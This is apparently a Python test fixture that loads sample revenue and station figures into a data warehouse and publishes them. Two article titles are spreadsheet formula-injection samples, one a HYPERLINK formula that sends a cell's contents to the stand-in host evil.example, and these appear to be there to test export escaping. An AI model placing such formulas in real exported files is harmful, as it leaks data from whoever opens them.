"""A warehouse with money in it: what converts, what does not, and titles that a spreadsheet would run."""

from __future__ import annotations

from datetime import date
from typing import Any

from stories import load_at_once, stations

from warehouse.publishing import Published, publish

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def year(number: int) -> dict[str, Any]:
    return {"period_start": date(number, 1, 1), "period_end": date(number, 12, 31), "period_origin": "stated"}


def publish_money(desk: Any) -> Published:
    """Revenue of five kinds and base stations, published."""
    acme = {"entity": "Acme Robots", "entity_id": "acme"}
    sums: dict[str, Any] = {"metric_id": "revenue", "metric": "revenue"}
    with desk.open() as warehouse:
        load_at_once(
            warehouse,
            desk,
            {
                "day": date(2024, 1, 22),
                "claims": [desk.claim("1.68 trillion yuan", 1.68e12, unit="CNY", **sums, **year(2023))],
            },
            {"day": date(2005, 1, 22), "claims": [desk.claim("1 billion yuan", 1e9, unit="CNY", **sums, **year(2004))]},
            {
                "day": date(2025, 2, 2),
                "title": FORMULA,
                "claims": [
                    desk.claim("over $2 billion", 2e9, unit="USD", comparator="gt", **sums, **acme, **year(2024))
                ],
            },
            {
                "day": date(2024, 2, 2),
                "claims": [desk.claim("NT$9 billion", 9e9, unit="TWD", **sums, **acme, **year(2023))],
            },
            {
                "day": date(2026, 2, 2),
                "claims": [desk.claim("9 trillion yuan", 9e12, unit="CNY", modality="target", **sums, **year(2028))],
            },
            {"day": date(2025, 1, 20), "title": "-2+3 说", "claims": [stations(desk, "4,251,000", 4_251_000)]},
        )
    return publish(desk.data_dir)
